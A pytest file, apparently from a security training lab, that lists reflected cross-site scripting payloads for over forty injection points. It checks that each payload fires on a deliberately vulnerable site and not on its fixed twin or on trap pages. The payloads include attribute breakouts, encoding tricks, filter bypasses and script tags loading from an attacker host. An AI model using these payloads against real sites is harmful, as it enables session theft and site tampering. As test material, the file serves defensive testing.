"""Every cross-site scripting flaw runs three unlike scripts; its twin and the traps run none."""

from base64 import b64encode
from urllib.parse import quote

import pytest

from cyberai.lab.site import Site

from .browser import ATTACKER, runs_call
from .client import flaws_of, get, send

CHECK = "web.reflected-xss"
TEXT = ("<script>alert(1)</script>", "<img src=x onerror=alert(1)>", '<a href=javascript:alert(1)>a</a>',
        "<svg/onload=alert(1)>", "<details open ontoggle=alert(1)>")  # fmt: skip
DOUBLE = ('"><script>alert(1)</script>', '" autofocus onfocus="alert(1)', '"onmouseover=alert(1) y="')
HANDLER_CODES = "&#97;&#108;&#101;&#114;&#116;(1)"
EXPLOITS: dict[str, tuple[str, ...]] = {
    "/search q": TEXT,
    "/signals code[]": TEXT,
    "/catalogue/filter colour": DOUBLE,
    "/catalogue/sorted by": ("'><script>alert(1)</script>", "' autofocus onfocus='alert(1)", "'onclick=alert(1) x='"),
    "/catalogue/view size": ("x onclick=alert(1)", "x><script>alert(1)</script>", "x\tonfocus=alert(1)\tautofocus"),
    "/help/topic ref": ("--><script>alert(1)</script>", "--!><img src=x onerror=alert(1)>", "x--><a href=javascript:alert(1)>go</a><!--"),
    "/contact/draft text": tuple("</textarea>" + payload for payload in TEXT),
    "/catalogue/print heading": tuple("</title>" + payload for payload in TEXT),
    "/account/frame shade": tuple("</style>" + payload for payload in TEXT),
    "/outlet to": ("javascript:alert(1)", "JaVaScRiPt:alert(1)", "java\tscript:alert(1)"),
    "/contact/preview message": TEXT,
    "/api/price sku": TEXT,
    "/api/wishlist label": TEXT,
    "/help/browser User-Agent": TEXT,
    "/help/came-from Referer": TEXT,
    "/account/theme theme": TEXT,
    "/tags/ 1": TEXT,
    "/catalogue/compare": TEXT,
    "/catalogue/favourite rope": TEXT,
    "/help/glossary": TEXT,
    "/account/gift gift": ('" onclick="alert(1)', '"autofocus onfocus=alert(1) x="', '" onblur="alert(1)'),
    "/brands/about brand": ("<img src=x onerror=alert(1)>", "<SCRIPT>alert(1)</SCRIPT>",
                            "<scr<script>ipt>alert(1)</scr</script>ipt>", "<script >alert(1)</script >"),
    "/account/engraving words": (f"<img src=x onerror={HANDLER_CODES}>", f"<svg onload='{HANDLER_CODES}'>",
                                 f"<a href=javascript&#58;{HANDLER_CODES}>x</a>"),
    "/contact/pickup point": TEXT,
    "/flags/colour fill": ('"/><script>alert(1)</script><rect fill="', '" onclick="alert(1)',
                               '"/><a xmlns="http://www.w3.org/1999/xhtml" onmouseover="alert(1)">x</a><rect fill="'),
    "/tides/card harbour": ("<script>alert(1)</script>", "<b onclick='alert(1)'>x</b>", "<img src='x' onerror='alert(1)'/>"),
    "/offers/feed shelf": ("<script xmlns='http://www.w3.org/1999/xhtml'>alert(1)</script>",
                           "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>alert(1)</x:script>",
                           "<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>"),
    "/orders/begin source": ('" accesskey="x" onclick="alert(1)', '" onfocus="alert(1)" type="text', '"onpaste="alert(1)'),
    "/catalogue/picture caption": ('" onload="alert(1)', '" onclick="alert(1)', '"tabindex="1"onfocus="alert(1)'),
    "/gifts/tag line": ("<svg onload=alert(1)>", "<a href=javascript:alert(1)>", "<p onclick=alert(1)>x</p>"),
    "/berths/named berth": tuple(quote(payload, safe="") for payload in TEXT),
    "/catalogue/pictures picture": TEXT,
    "/charts/shared state": tuple(b64encode(payload.encode()).decode() for payload in TEXT),
    "/lanterns/here deck": (f"<script src={ATTACKER}a.js></script>", f'<script src="{ATTACKER}"></script>',
                            f"<svg></svg><script async src={ATTACKER}></script>"),
    "/buoys/near point": TEXT,
    "/account/greeting name": ('"-alert(1)-"', '";alert(1);//', "</script><script>alert(1)</script>", '"+alert(1)+"'),
    "/account/locale lang": ("'-alert(1)-'", "';alert(1);//", "</script><svg onload=alert(1)>"),
    "/account/banner text": ("${alert(1)}", "`;alert(1);//", "`+alert(1)+`"),
    "/account/delay step": ("alert(1)", "1;alert(1)", "(()=>alert(1))()"),
    "/basket/notice item": ("');alert(1);//", "'-alert(1)-'", "'+alert(1)+'"),
    "/account/motto motto": ("</script><script>alert(1)</script>", "</script><img src=x onerror=alert(1)>",
                             "</SCRIPT ><svg onload=alert(1)>"),
    "/account/toast toast": ("'-alert`1`-'", "';alert`1`;'", "'||alert`1`||'"),
    "/account/pennant pennant": ("<iframe src=javas&Tab;cript:alert(1)>", "<a href=javas&#9;cript:alert(1)>x</a>",
                                 "<form action=javas&NewLine;cript:alert(1)><button>x</button></form>"),
    "/account/nickname nick": ("\\';alert(1);//", "\\'-alert(1)//", "\\'||alert(1)//"),
    "/account/signature line": ("'-alert(1)-'", "';alert(1);//", "'+alert(1)+'"),
}  # fmt: skip
FLAWS = flaws_of(CHECK)


def test_every_flaw_has_three_exploits() -> None:
    assert set(EXPLOITS) == set(FLAWS)
    assert all(len(exploits) >= 3 for exploits in EXPLOITS.values())


@pytest.mark.parametrize("place", sorted(FLAWS))
def test_each_exploit_runs_on_the_vulnerable_twin_only(place: str) -> None:
    vulnerable, fixed = Site(), Site(fixed=True)
    for exploit in EXPLOITS[place]:
        assert runs_call(send(vulnerable, FLAWS[place], exploit)), exploit
        assert not runs_call(send(fixed, FLAWS[place], exploit)), exploit


@pytest.mark.parametrize("place", sorted(FLAWS))
def test_no_exploit_of_any_place_runs_on_the_fixed_twin(place: str) -> None:
    fixed = Site(fixed=True)
    for exploits in EXPLOITS.values():
        for exploit in exploits:
            assert not runs_call(send(fixed, FLAWS[place], exploit)), exploit


@pytest.mark.parametrize(
    "trap",
    ["/service/echo name", "/service/attribute number", "/api/suggest q", "/service/receipt.txt customer",
     "/service/note note", "/service/tides harbour", "/service/boat boat", "/service/berth berth",
     "/service/town town", "/service/flag flag", "/service/shout words", "/flags/plain fill",
     "/offers/shelf shelf"],
)  # fmt: skip
@pytest.mark.parametrize("fixed", [False, True])
def test_traps_reflect_and_run_nothing(trap: str, fixed: bool) -> None:
    site = Site(fixed=fixed)
    path, parameter = trap.split()
    assert "marker" in get(site, f"{path}?{parameter}=marker").text.lower()
    for exploits in EXPLOITS.values():
        for exploit in exploits:
            assert not runs_call(get(site, f"{path}?{parameter}={quote(exploit, safe='')}")), exploit


def test_a_page_without_exploit_runs_nothing() -> None:
    site = Site()
    for flaw in FLAWS.values():
        assert not runs_call(send(site, flaw, "rope"))
